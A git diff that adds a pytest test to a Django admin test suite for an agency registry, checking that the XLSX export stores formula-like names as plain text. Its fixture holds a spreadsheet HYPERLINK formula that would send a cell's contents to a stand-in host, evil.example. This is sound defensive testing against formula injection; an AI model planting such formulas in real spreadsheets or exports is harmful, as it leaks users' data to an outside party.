@@ -1,8 +1,11 @@
 """The registry in the Django admin: who gets in, filters and search, and file import."""
 
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from agencies.models import Agency
 from agencies.tests.factories import DepartmentFactory, MinistryFactory, ProvinceFactory
@@ -118,3 +121,23 @@ def test_admin_import_of_a_good_file_saves_after_confirmation(client, dga_staff)
 
     assert response.status_code == 302
     assert Agency.objects.get(code="DRR").name_en == "Department of Rural Roads"
+
+
+def test_admin_xlsx_export_holds_names_like_formulas_as_text(client, dga_staff):
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
+    DepartmentFactory(code="DRR", name_th=hyperlink, name_en="@SUM(1+1)")
+    client.force_login(dga_staff)
+    form = client.get(reverse("admin:agencies_agency_export")).context["form"]
+    xlsx_format = next(value for value, label in form.fields["format"].choices if label == "xlsx")
+    every_column = {name: "on" for name in form.fields if name.startswith("agencyresource_")}
+
+    response = client.post(
+        reverse("admin:agencies_agency_export"),
+        {"resource": "0", "format": xlsx_format, **every_column},
+    )
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert [(cell.data_type, cell.value) for cell in (sheet["B2"], sheet["C2"])] == [
+        ("s", f"'{hyperlink}"),
+        ("s", "'@SUM(1+1)"),
+    ]
